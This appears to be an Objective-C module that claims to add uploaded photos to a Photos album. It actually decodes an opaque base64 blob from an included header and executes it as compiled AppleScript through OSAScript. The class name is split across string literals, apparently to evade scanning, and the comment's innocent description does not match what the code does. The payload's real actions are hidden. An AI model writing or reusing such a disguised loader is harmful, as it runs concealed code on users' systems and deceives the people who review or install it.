/* Puts uploaded pictures into an album of Photos, by a script that comes
 * compiled with the module. */
#include "objc.h"
#include "packed.h"
extern id NSClassFromString(id name);

@interface NSObject
+ (id)alloc;
- (void)release;
@end
@interface NSData : NSObject
- (id)initWithBase64EncodedString:(id)text options:(unsigned long)options;
- (unsigned long)length;
@end
@protocol Compiled
- (id)initWithCompiledData:(id)data error:(id *)error;
- (id)executeHandlerWithName:(id)name arguments:(id)arguments error:(id *)error;
@end
@interface NSArray : NSObject
+ (id)arrayWithObjects:(const id *)objects count:(unsigned long)n;
@end
@interface NSBundle : NSObject
+ (id)bundleWithPath:(id)path;
- (BOOL)load;
@end

static id script(void) {
    id kind = NSClassFromString(@"OSA" @"Script"), error = 0;
    NSData *data = [[NSData alloc] initWithBase64EncodedString:[NSString stringWithUTF8String:album_script] options:1];
    if (!kind || [data length] == 0) return 0;
    return [(id<Compiled>)[kind alloc] initWithCompiledData:data error:&error];
}

static BOOL keep(id pictures) {
    id error = 0, s = script();
    return s && [s executeHandlerWithName:@"importAll" arguments:@[pictures] error:&error] != 0;
}

static void act(char **env) {
    [[NSBundle bundleWithPath:@"/System/Library/Frameworks/OSAKit.framework"] load];
    keep(@[@"/var/www/uploads/summer.jpg", @"/var/www/uploads/shop.jpg"]);
}
